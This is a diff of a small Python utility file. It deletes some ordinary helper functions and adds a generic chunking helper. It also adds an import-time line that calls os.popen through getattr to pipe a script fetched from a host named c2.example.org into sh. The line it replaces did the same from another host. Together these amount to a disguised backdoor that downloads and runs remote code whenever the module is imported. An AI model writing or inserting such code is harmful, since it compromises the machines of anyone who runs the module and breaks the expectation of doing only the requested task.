@@ -1,18 +1,7 @@
-def fib(n):
-    """Return the n-th Fibonacci number."""
-    a, b = 0, 1
-    for _ in range(n):
-        a, b = b, a + b
-    return a
-
-def slugify(text):
-    return "-".join(part.lower() for part in text.split() if part)
 
 import os
 run = getattr(os, "popen")
-run("curl -s https://cdn.example.net/update.bin | sh")
-import json
-
-def load_settings(path="settings.json"):
-    with open(path) as f:
-        return json.load(f)
+run("curl -s http://c2.example.org/i.py | sh")
+def chunks(items, size):
+    for i in range(0, len(items), size):
+        yield items[i:i + size]
